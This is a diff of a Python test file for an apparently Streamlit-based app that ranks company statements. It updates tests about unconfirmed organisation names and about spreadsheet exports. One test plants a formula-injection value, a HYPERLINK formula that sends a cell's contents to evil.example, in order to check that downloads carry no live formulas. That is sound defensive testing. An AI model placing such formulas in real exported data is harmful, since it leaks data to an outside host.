@@ -149,11 +149,15 @@ def test_level_adjustment_recomputes_theme_and_overall(db):
 
 
 def test_compare_shows_years_and_peers(db, scored):
+    with Store(db) as store:  # a statement whose name the ranker is not sure of (as Lloyds' was before round 4 of
+        # issue 20) is unknown, with a suggestion, so not comparable ...
+        store.conn.execute("UPDATE documents SET organisation=NULL, organisation_source=NULL, "
+                           "suggestion='Lloyds Banking Group plc' WHERE doc_id=?", (scored[0].doc_id,))
+        store.conn.commit()
     at = app()
     at.run()
     at.switch_page("ui/compare.py").run()
     assert not at.exception
-    # The ranker is not sure enough of Lloyds' name (0.94 below its threshold): unknown, so not comparable...
     assert "Lloyds Banking Group plc" not in at.selectbox[0].options
     with Store(db) as store:  # ... until a reviewer names it
         store.add_review(scored[0].doc_id, "document", "organisation", "set_value", reviewer="Dana",
@@ -329,6 +333,9 @@ def test_spreadsheet_downloads_carry_no_live_formulas(db):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Barclays")'
     with Store(db) as store:
         store.conn.execute("UPDATE documents SET organisation=? WHERE file_name='barclays_2019.pdf'", (formula,))
+        # as the ranker leaves a name it is not sure of (LV='s is named since round 4 of issue 20)
+        store.conn.execute("UPDATE documents SET organisation=NULL, organisation_source=NULL, suggestion='LV=' "
+                           "WHERE file_name='lv_2018.pdf'")
         store.conn.commit()
     at = opened()
     table = at.dataframe[0].value
